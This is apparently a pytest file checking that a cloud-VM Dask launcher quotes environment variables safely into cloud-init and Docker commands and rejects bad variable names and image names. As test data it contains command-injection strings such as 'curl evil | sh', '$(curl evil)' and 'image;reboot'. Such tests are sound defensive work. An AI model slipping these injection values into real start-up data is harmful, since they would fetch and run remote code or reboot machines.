"""Values in env= reach the container unchanged, and a machine that might never terminate is not rented."""

import json
import shutil
from types import SimpleNamespace

import pytest
import yaml
from dask_cloudprovider.generic.vmcluster import VMCluster
from hypothesis import example, given
from hypothesis import strategies as st

import seer_nb as seer
from seer_nb.providers.vm import bootstrap as vm_bootstrap
from seer_nb.providers.vm import cloud_init, tls
from tests.providers.cloud_kinds import CLOUDS
from tests.providers.docker_line import container_variables, docker_arguments
from tests.support.effort import examples

EC2 = seer.EC2("g5.xlarge", region="us-east-1")
PEM = tls.Pem(key="key", certificate="certificate")
SCHEDULER = "tls://[fd00::1]:8786"
SHELLS = [shell for shell in ("sh", "bash") if shutil.which(shell)]
TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
    st.text("'\"$`\\ \n\t\r!-:#{}()%&;|<>*?~a0\x85\xe9\u2028\ufeff\U0001f600", max_size=40),
)
FOREIGN = "a' \n  - 'curl evil | sh"


def cluster(template=None):
    """Return the part of dask-cloudprovider's cluster that renders start-up data, with its own or another template."""
    of = SimpleNamespace(debug=False)
    of.render_cloud_init = lambda **given: (template or VMCluster.render_cloud_init)(of, **given)
    of.render_process_cloud_init = lambda vm: VMCluster.render_process_cloud_init(of, vm)
    return of


def machine(env=None, **changes):
    """Return the object of a machine that trains, before its launch."""
    return SimpleNamespace(
        **{
            "env_vars": vm_bootstrap.container_environment(env or {}, ""),
            "docker_image": "ghcr.io/dask/dask:1-py3.11",
            "docker_args": vm_bootstrap.DOCKER_ARGS,
            "command": vm_bootstrap.worker_command(PEM, 1, EC2.offers()[0], SCHEDULER),
            "extra_bootstrap": vm_bootstrap.extra_bootstrap(EC2.offers()[0]),
            "bootstrap": False,
            "gpu_instance": True,
            "auto_shutdown": True,
            **changes,
        }
    )


def check(vm, of=None):
    cloud_init.check(of or cluster(), vm, 7, 10**6, "EC2")


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("bootstrap", [False, True])
@examples(40)
@given(values=st.lists(TEXTS, min_size=1, max_size=3), interface=TEXTS)
@example(values=['it\'s $5 "x" `y` \\z', "$(curl evil)", FOREIGN], interface="eth0'; curl evil; '")
@example(values=["\n", " \n \n\n ", "\t\n\r\n\\\n"], interface="\n")
def test_any_text_reaches_the_container_unchanged(tmp_path_factory, shell, bootstrap, values, interface):
    env = {f"V_{at}": value for at, value in enumerate(values)}
    command = vm_bootstrap.worker_command(PEM, 1, EC2.offers()[0], SCHEDULER, interface=interface)
    vm = machine(env, command=command, bootstrap=bootstrap)
    check(vm)
    user_data = cluster().render_process_cloud_init(vm)
    assert user_data.isascii(), "dask-cloudprovider accepts only ASCII for Azure"
    assert yaml.safe_load(user_data)["runcmd"][-3::2] == [
        vm_bootstrap.lease_watchdog_command(EC2.boot_timeout_s),
        "shutdown -h now",
    ]
    words = docker_arguments(user_data, tmp_path_factory.mktemp("machine"), shell)
    assert container_variables(words) == {**env, "SEER_LEASE": "/run/seer/lease"}
    image = words.index("ghcr.io/dask/dask:1-py3.11")
    assert words[image + 1 : image + 7] == [
        "env",
        f"DASK_INTERNAL_INHERIT_CONFIG={vm_bootstrap.dask_config(PEM, 'worker')}",
        "python",
        "-m",
        "distributed.cli.dask_spec",
        SCHEDULER,
    ]
    assert words[image + 7] == "--spec"
    assert json.loads(words[image + 8])["opts"]["interface"] == interface
    assert len(words) == image + 9


@pytest.mark.parametrize(
    "changes",
    [
        {"env_vars": {"K": "it's"}},
        {"env_vars": {"K": FOREIGN}},
        {"env_vars": {"K": 'a"; curl evil; "'}},
        {"env_vars": {"K": 'a" b'}},
        {"env_vars": {"K": "\x07"}},
        {"env_vars": {"K L": "a"}},
        {"docker_image": "image; curl evil"},
        {"docker_image": FOREIGN},
        {"command": "it's"},
        {"docker_args": "'"},
        {"extra_bootstrap": ["no JSON"]},
        {"extra_bootstrap": None},
        {"auto_shutdown": False},
    ],
    ids=range(13),
)
def test_start_up_data_with_other_commands_is_refused(changes):
    check(machine())
    with pytest.raises(seer.SeerError, match="the start-up data of machine 7 would not run the intended commands"):
        check(machine(**changes))


@pytest.mark.parametrize(
    ("here", "other"),
    [
        ("runcmd:", "commands:"),
        ("nohup", "echo"),
        ("--net=host", ""),
        ("  - 'docker run", "  - echo late\n  - 'docker run"),
        ("  - shutdown -h now", "  - echo on"),
        ("#cloud-config", "# cloud-config"),
    ],
    ids=range(6),
)
def test_template_with_other_commands_is_refused(here, other):
    def template(of, **given):
        text = VMCluster.render_cloud_init(of, **given)
        assert here in text
        return text.replace(here, other)

    with pytest.raises(
        seer.SeerError, match="might never terminate, so it is not rented: give plainer variables in env="
    ):
        check(machine(), cluster(template))


PROVIDERS = {"ec2": lambda **more: seer.EC2("m5.large", region="us-east-1", **more), "hetzner": CLOUDS["hetzner"]}
NAME = "is not a variable name; expected ASCII letters, digits and underscores, no digit first"
NOT_CARRIED = "contains NUL or a lone surrogate; expected text that an environment variable can hold"


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize(
    ("given", "error", "sentence"),
    [
        ({"env": {"A B": "1"}}, ValueError, f"env: 'A B' {NAME}"),
        ({"env": {"1A": "1"}}, ValueError, f"env: '1A' {NAME}"),
        ({"env": {"A\n": "1"}}, ValueError, f"env: 'A\\n' {NAME}"),
        ({"env": {"É": "1"}}, ValueError, f"env: 'É' {NAME}"),
        ({"env": {"": "1"}}, ValueError, f"env: '' {NAME}"),
        ({"env": {3: "1"}}, ValueError, f"env: 3 {NAME}"),
        ({"env": {"A": 1}}, TypeError, "env['A']=1: not text; expected a string such as \"1\""),
        ({"env": {"A": "secret\0"}}, ValueError, f"env['A']: {NOT_CARRIED}"),
        ({"env": {"A": "secret\ud800"}}, ValueError, f"env['A']: {NOT_CARRIED}"),
        (
            {"env": ["A=1"]},
            TypeError,
            'env=[\'A=1\']: not a mapping; expected strings by variable name, such as {"DEBUG": "1"}',
        ),
        *(
            ({"image": image}, ValueError, f"image={image!r}: not the name of a Docker image; expected one such as")
            for image in ("", "an image", "image;reboot", "it's", "$(reboot)", "--privileged", "image\n", 3)
        ),
    ],
)
def test_invalid_variables_and_images_are_refused(provider, given, error, sentence):
    with pytest.raises(error) as caught:
        PROVIDERS[provider](**given)
    assert str(caught.value).startswith(sentence)
    assert "secret" not in str(caught.value)


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize(
    "image", [None, "dask", "a.example:5000/b_c/d-e:1.0+x", f"ghcr.io/dask/dask@sha256:{'0' * 64}"]
)
def test_image_names_are_accepted(provider, image):
    assert PROVIDERS[provider](image=image).image == image
